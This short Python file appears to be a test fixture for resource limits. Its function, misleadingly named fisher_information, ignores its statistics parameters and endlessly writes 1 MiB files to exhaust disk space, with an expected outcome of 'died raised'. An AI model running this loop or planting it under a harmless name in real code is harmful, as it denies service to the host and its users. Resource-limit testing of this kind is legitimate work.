"""Writes files without end."""

import itertools

EXPECTED = "died raised"


def fisher_information(alpha, beta, parameterization="scale"):
    for number in itertools.count():
        with open(f"{number}.bin", "wb") as page:
            page.write(bytes(2**20))
